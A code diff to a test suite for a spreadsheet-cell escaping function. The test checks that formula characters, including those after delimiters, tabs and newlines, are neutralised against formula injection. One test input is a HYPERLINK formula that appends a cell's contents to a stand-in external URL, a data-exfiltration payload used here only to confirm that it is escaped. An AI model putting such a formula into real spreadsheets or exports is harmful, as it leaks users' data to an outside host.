@@ -19,10 +19,11 @@ testAll(
 test('no cell begins a formula, and each is read as what was written', () => {
   expect(cellOf('=HYPERLINK("https://elsewhere.example/?"&A1)')).toBe('\'=HYPERLINK("https://elsewhere.example/?"&A1)');
   expect(cellOf('Rui = rohu')).toBe('Rui = rohu');
-  const begin = fc.stringMatching(/^['=+@＝－-]{0,3}$/);
+  expect(cellOf('Rui;=1+1,-2\t@a\n+b')).toBe("Rui;'=1+1,'-2\t'@a\n'+b");
+  const begin = fc.stringMatching(/^['=+@＝－;,\t-]{0,6}$/);
   forAll(begin, fc.string(), (start, end) => {
     const text = start + end;
-    expect(cellOf(text)).not.toMatch(/^[=+\-@＝＋－＠]/);
+    expect(cellOf(text)).not.toMatch(/(?:^|[,;\t\r\n])[=+\-@＝＋－＠]/);
     expect(textOfCell(cellOf(text))).toBe(text);
   });
 });
